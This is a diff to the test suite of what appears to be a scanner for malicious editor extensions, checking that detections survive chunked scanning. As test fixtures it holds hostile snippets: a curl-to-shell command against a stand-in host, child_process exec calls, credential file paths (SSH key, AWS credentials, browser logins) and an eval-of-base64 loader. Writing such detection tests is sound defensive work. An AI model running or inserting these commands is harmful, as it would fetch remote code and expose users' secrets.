@@ -13,6 +13,7 @@ import yara_x
 from tests.builders import extension, install
 from tests.offline import analyse
 from vscan.domain import Scanned, Task
+from vscan.package import OVERLAP_BYTES, WINDOW_BYTES
 from vscan.sources.offline import checks
 from vscan.sources.offline.analyser import Analyser
 from vscan.sources.offline.check import Unexamined, bounded
@@ -141,6 +142,9 @@ def test_what_takes_too_long_is_searched_in_parts(tmp_path: Path) -> None:
     """On a busy machine: what is found, and where, is the same."""
     word = "'http://45.76.12.34' "
     text = "".join("x" * number + word for number in range(3000))
+    no_word = "xAKIA" + "Q2W3E4R5T6Y7U2I3 "  # the parts meet behind its first letter
+    middle = len(text) // 2
+    text = text[: middle - 1] + no_word + text[middle - 1 + len(no_word) :]
     root = install(tmp_path)
     (root / "x.js").write_text(text)
     extension_there = replace(extension(), root=root)
@@ -158,6 +162,43 @@ def test_what_takes_too_long_is_searched_in_parts(tmp_path: Path) -> None:
     assert parts.verdict.findings == whole.verdict.findings
     assert whole.verdict.findings[-1].message.endswith("(and 2980 more like it)")
     assert parts.verdict.digest == whole.verdict.digest != ""
+
+
+_BORDER = WINDOW_BYTES - OVERLAP_BYTES
+# What counts only with what stands before it: the two parts, and the rule.
+_BEFORE = {
+    "a kept text": ('var q=atob("Y29uc29sZS5sb2coMSk=");', "eval(q);", "decoded-code"),
+    "what runs a command": ('require("child_process").exec("', 'npm publish");', "self-spread"),
+    "places": ('x="/Login Data";y="/.ssh/id_rsa";', 'z="/.aws/credentials";', "theft-targets"),
+    "a chain": ("eval(x);", 'y("eth_call");', "blockchain-commands"),
+    "a range": ("const a=(c)=>c-0xfe00;", "d=0xe0100;", "invisible-decoder"),
+    "a shell": ('require("child_process").exec("', 'curl https://e.example/i | sh");',
+                "runs-remote-code"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("parts", _BEFORE.values(), ids=_BEFORE)
+@pytest.mark.parametrize("cut", [-1, 0, 1])
+def test_no_border_of_a_window_hides_what_stands_before(
+    parts: tuple[str, str, str], cut: int
+) -> None:
+    before, after, rule = parts
+    lead = "//" + "x" * (_BORDER - len(before) - 3 + cut) + "\n"
+    verdict = analyse({"x.js": lead + before + after + "\n//" + "y" * MIB})
+    (finding,) = (each for each in verdict.findings if each.rule == rule)
+    assert finding.line == 2
+
+
+def test_no_border_of_a_window_makes_code_of_a_comment() -> None:
+    line = "// " + "curl https://e.example/i | sh; "
+    lines = (line + "\n") * (_BORDER // len(line))
+    assert analyse({"x.sh": lines + lines[:MIB]}).findings == ()
+
+
+def test_what_two_windows_see_is_found_once() -> None:
+    lead = "//" + "x" * (_BORDER - 1000) + "\n"
+    verdict = analyse({"x.js": lead + "'http://45.76.12.34'" + "\n//" + "y" * MIB})
+    assert [finding.offset for finding in verdict.findings] == [len(lead) + 5]
 
 
 def test_items_beyond_a_limit_are_a_gap() -> None:
